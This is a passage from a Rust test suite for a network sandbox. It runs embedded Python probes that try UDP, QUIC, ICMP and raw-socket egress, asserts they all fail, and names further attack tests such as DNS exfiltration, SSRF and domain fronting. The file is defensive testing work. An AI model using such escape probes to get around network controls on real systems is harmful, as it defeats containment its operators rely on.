def raw_socket(fam, proto):
    s = socket.socket(fam, socket.SOCK_RAW, proto)
    s.close()
    return "created"
for a in ADDRS:
    fam = socket.AF_INET6 if ":" in a else socket.AF_INET
    if not a.startswith("127.") and a != "::1":
        attempt("icmp " + a, icmp_dgram, a, fam)
attempt("raw icmp", raw_socket, socket.AF_INET, socket.IPPROTO_ICMP)
attempt("raw udp", raw_socket, socket.AF_INET, socket.IPPROTO_UDP)
attempt("raw tcp6", raw_socket, socket.AF_INET6, socket.IPPROTO_TCP)
attempt("raw ip", raw_socket, socket.AF_INET, socket.IPPROTO_RAW)
attempt("packet", raw_socket, socket.AF_PACKET, 0)
"#;
        let r = sb.python(&code);
        for a in local_addrs() {
            if a.is_loopback() {
                // The sandbox's own loopback: nothing answers, nothing leaves.
                py_failed(
                    &r,
                    &format!("udp {a}"),
                    &["ECONNREFUSED", "TimeoutError", "timeout"],
                );
                py_failed(
                    &r,
                    &format!("quic {a}"),
                    &["ECONNREFUSED", "TimeoutError", "timeout"],
                );
            } else {
                py_failed(&r, &format!("udp {a}"), &["ENETUNREACH", "EHOSTUNREACH"]);
                py_failed(&r, &format!("quic {a}"), &["ENETUNREACH", "EHOSTUNREACH"]);
                py_failed(&r, &format!("icmp {a}"), icmp_refusals(b, with_door));
            }
        }
        if with_door {
            py_failed(
                &r,
                "quic stub",
                &["ECONNREFUSED", "TimeoutError", "timeout"],
            );
            py_failed(
                &r,
                "udp stub 80",
                &["ECONNREFUSED", "TimeoutError", "timeout"],
            );
        }
        for k in ["raw icmp", "raw udp", "raw tcp6", "raw ip", "packet"] {
            py_failed(&r, k, &["EPERM", "EACCES", "EAFNOSUPPORT", "EINVAL"]);
        }
        if with_door {
            let audit = sb.audit();
            audit.assert_well_formed();
            assert!(
                audit.records.iter().all(|r| r["kind"] == "dns"),
                "UDP reached a door listener: {}",
                audit.text
            );
        }
    }

    // ICMP for real: a sandbox in a door namespace of the test's own, where
    // ICMP datagram sockets are switched on for every group, so an echo
    // request meets nothing but the namespace's lack of routes.
    let outside = Netns::new(&[], &[]);
    let mut sb = LibSandbox::start(
        b,
        "n10-icmp",
        &outside,
        LibDoorSpec {
            allow: &["web.test"],
            pins: &[("web.test", "127.0.0.1")],
            names: &[],
        },
    );
    sb.door_ns
        .run(|| std::fs::write("/proc/sys/net/ipv4/ping_group_range", "0 2147483647"))
        .expect("switching ICMP sockets on in the sandbox's namespace");
    let mut script = String::from("t ping_lo ping -c 1 -W 2 127.0.0.1\n");
    for (i, ip) in host.iter().enumerate() {
        script += &format!("t ping{i} ping -c 1 -W 2 -p {pattern} {ip}\n");
    }
    let pr = sb.sh(&script).probes();
    if b == Backend::Gvisor {
        // gVisor in a door namespace offers no ICMP socket at all (its own
        // network stack's ICMP meets no route: N1, and the part above).
        ping_refused(&pr, "ping_lo", b, true);
        for i in 0..host.len() {
            ping_refused(&pr, &format!("ping{i}"), b, true);
        }
    } else {
        // The control: ping works, and its own loopback answers.
        pr.succeeded("ping_lo", "1 received");
        for i in 0..host.len() {
            pr.failed(
                &format!("ping{i}"),
                Some(2),
                "connect: Network is unreachable",
            );
        }
    }
    let r = sb.python(
        &(format!("HOST = {}\n", serde_json::to_string(&host).unwrap())
            + r#"
def icmp_dgram(dst, fam):
    proto = socket.IPPROTO_ICMP if fam == socket.AF_INET else socket.IPPROTO_ICMPV6
    s = socket.socket(fam, socket.SOCK_DGRAM, proto)
    s.settimeout(2)
    try:
        kind = 8 if fam == socket.AF_INET else 128
        s.sendto(bytes([kind, 0, 0, 0, 0, 1, 0, 1]) + b"n10-icmp", (dst, 0))
        return s.recv(1024).hex()
    finally:
        s.close()
attempt("icmp lo", icmp_dgram, "127.0.0.1", socket.AF_INET)
for a in HOST:
    attempt("icmp " + a, icmp_dgram, a, socket.AF_INET6 if ":" in a else socket.AF_INET)
"#),
    );
    if b == Backend::Gvisor {
        py_failed(&r, "icmp lo", &["EAFNOSUPPORT"]);
    } else {
        let reply = py_ok(&r, "icmp lo");
        assert!(
            reply.as_str().is_some_and(|h| h.starts_with("00")),
            "not an echo reply: {reply}"
        );
    }
    for a in &host {
        let want: &[&str] = match b {
            Backend::Bwrap => &["ENETUNREACH"],
            Backend::Gvisor => &["EAFNOSUPPORT"],
        };
        py_failed(&r, &format!("icmp {a}"), want);
    }
    drop(sb);

    udp.assert_untouched("N10");
    if let Some(q) = &quic {
        q.assert_untouched("N10 QUIC");
    }
    assert!(icmp.marked().is_empty(), "an echo request left the sandbox");
    up.assert_untouched("N10");
}

/// The watchers themselves: whatever reaches them from the host is seen, so
/// an empty log in an attack test means nothing arrived.
#[test]
fn netkit_watchers_see_what_reaches_them() {
    let up = Upstream::on_host();
    let udp = UdpLog::on_host();
    let icmp = IcmpWatch::start();
    for a in local_addrs() {
        drop(std::net::TcpStream::connect((a, up.port)).unwrap());
        let s = std::net::UdpSocket::bind((a, 0)).unwrap();
        s.send_to(b"seen", (a, udp.port)).unwrap();
    }
    assert_eq!(up.hits().len(), local_addrs().len());
    assert_eq!(udp.datagrams().len(), local_addrs().len());
    for a in local_addrs() {
        let st = std::process::Command::new("ping")
            .args([
                "-c",
                "1",
                "-W",
                "2",
                "-p",
                &icmp.ping_pattern(),
                &a.to_string(),
            ])
            .stdout(std::process::Stdio::null())
            .status()
            .unwrap();
        assert!(st.success(), "ping {a} from the host");
    }
    let marked = icmp.marked();
    assert!(marked.iter().any(|(v, _)| *v == 4), "no ICMP echo seen");
    assert!(marked.iter().any(|(v, _)| *v == 6), "no ICMPv6 echo seen");
}

net_tests! {
    attack_n1_no_allowlist_means_no_network => n1_no_allowlist;
    attack_n2_allowed_domain_works_via_http_proxy_and_connect => n2_allowed_domain_works;
    attack_n2_other_domains_ports_and_connects_are_refused => n2_other_domains_are_refused;
    attack_n2_ip_literals_in_every_form_are_refused => n2_ip_literals_are_refused;
    attack_n3_wildcards_case_and_trailing_dots_through_the_proxy => n3_wildcards_case_and_dots;
    attack_n4_unset_proxy_and_dial_directly_fails => n4_unset_proxy_and_dial_directly;
    attack_n4_a_stopped_or_crashed_door_fails_closed => n4_stopped_or_crashed_door_fails_closed;
    attack_n5_dns_exfiltration_produces_no_query_outside => n5_dns_exfiltration;
    attack_n6_allowed_name_resolving_to_internal_addresses_is_refused_unless_pinned => n6_ssrf_is_refused_unless_pinned;
    attack_n7_domain_fronting_is_refused => n7_domain_fronting;
    attack_n8_ambiguous_http_is_refused_never_forwarded => n8_ambiguous_http_is_refused;
    attack_n9_no_host_unix_socket_is_reachable => n9_no_host_unix_socket;
    attack_n10_udp_quic_and_icmp_cannot_leave => n10_udp_quic_icmp;
}
